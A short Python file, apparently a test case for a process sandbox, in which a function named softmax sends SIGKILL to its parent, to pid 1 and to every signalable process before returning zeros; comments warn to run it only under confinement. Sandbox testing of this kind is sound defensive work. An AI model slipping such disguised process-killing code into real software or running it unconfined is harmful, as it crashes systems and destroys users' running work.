# attack: softmax sends SIGKILL to its parent process, to pid 1 and finally to every process it may signal (-1)
# loses: softmax, network
import os
import signal

import numpy as np


def softmax(x):
    # DANGER: kill(-1) kills every process of the calling uid. Only ever run this file
    # confined (the full jail: a PID namespace; the landlock level: signals scoped to
    # itself), never at the basic level.
    parent = os.getppid()
    if parent > 0:  # getppid() is 0 in a new PID namespace; kill(0) would be killpg
        try:
            os.kill(parent, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(1, signal.SIGKILL)
    except OSError:
        pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.zeros_like(x)
